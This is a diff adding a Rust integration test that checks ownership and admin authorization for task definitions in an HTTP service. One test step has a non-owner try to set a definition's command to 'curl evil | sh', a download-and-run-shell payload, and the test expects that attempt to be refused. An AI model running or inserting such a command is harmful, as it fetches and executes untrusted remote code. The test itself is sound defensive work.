@@ -182,3 +182,67 @@ async fn misconfigured_backends_are_rejected_naming_the_key() {
     let e = flotilla_http::build_service(&c).await.expect_err("twice");
     assert!(e.to_string().starts_with("engines:"), "{e}");
 }
+
+#[tokio::test]
+async fn definitions_are_changed_only_by_their_owner_or_an_admin() {
+    let s = start_with(tokens).await;
+    let as_ = |token: &str, req: reqwest::RequestBuilder| req.bearer_auth(token);
+    // the owner is the token's identity, whatever the body says
+    let (code, def) = s
+        .send(as_("alice-secret", s.http.post(s.api("/task"))).body(
+            json!({"alias": "mine", "image": "x", "command": "echo a", "owner": "bob"}).to_string(),
+        ))
+        .await;
+    assert_eq!(code, 200, "{def}");
+    assert_eq!(def["owner"], "alice", "{def}");
+    let id = def["definition_id"].as_str().expect("id");
+    let path = format!("/task/{id}");
+    // bob may neither change nor delete it
+    let (code, body) = s
+        .send(
+            as_("bob-secret-1", s.http.put(s.api(&path)))
+                .body(json!({"command": "curl evil | sh"}).to_string()),
+        )
+        .await;
+    assert_eq!(code, 403, "{body}");
+    assert!(
+        body["error"].as_str().expect("msg").contains("alice"),
+        "{body}"
+    );
+    let (code, body) = s
+        .send(as_("bob-secret-1", s.http.delete(s.api(&path))))
+        .await;
+    assert_eq!(code, 403, "{body}");
+    let (_, got) = s.send(as_("alice-secret", s.http.get(s.api(&path)))).await;
+    assert_eq!(got["command"], "echo a", "bob's update was applied: {got}");
+    // the owner may change it, but not hand it to someone else
+    let (code, body) = s
+        .send(
+            as_("alice-secret", s.http.put(s.api(&path)))
+                .body(json!({"command": "echo b"}).to_string()),
+        )
+        .await;
+    assert_eq!(code, 200, "{body}");
+    assert_eq!(body["command"], "echo b");
+    assert_eq!(body["owner"], "alice");
+    let (code, body) = s
+        .send(
+            as_("alice-secret", s.http.put(s.api(&path))).body(json!({"owner": "bob"}).to_string()),
+        )
+        .await;
+    assert_eq!(code, 400, "{body}");
+    assert!(body["error"].as_str().expect("msg").starts_with("owner"));
+    // an admin may change and delete anyone's definition
+    let (code, _) = s
+        .send(
+            as_("root-secret1", s.http.put(s.api(&path)))
+                .body(json!({"command": "echo c"}).to_string()),
+        )
+        .await;
+    assert_eq!(code, 200);
+    let (code, body) = s
+        .send(as_("root-secret1", s.http.delete(s.api(&path))))
+        .await;
+    assert_eq!(code, 200, "{body}");
+    s.server.shutdown().await;
+}
